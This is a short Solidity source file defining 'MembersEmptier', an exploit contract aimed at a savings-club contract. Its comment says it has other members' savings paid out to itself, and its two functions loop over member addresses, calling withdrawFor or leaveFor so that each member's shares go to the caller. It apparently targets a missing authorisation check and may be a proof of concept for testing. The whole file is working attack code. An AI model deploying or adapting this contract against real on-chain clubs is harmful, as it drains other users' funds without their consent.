// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IClub {
    function sharesOf(address member) external view returns (uint256);

    function withdrawFor(address from, address to, uint256 shares) external returns (uint256);

    function leaveFor(address from, address to) external returns (uint256);
}

/// Has other members' savings paid out to itself.
contract MembersEmptier {
    function run(IClub club, address[] calldata members) external {
        for (uint256 i = 0; i < members.length; i++)
            club.withdrawFor(members[i], msg.sender, club.sharesOf(members[i]));
    }

    function runByLeaving(IClub club, address[] calldata members) external {
        for (uint256 i = 0; i < members.length; i++) club.leaveFor(members[i], msg.sender);
    }
}
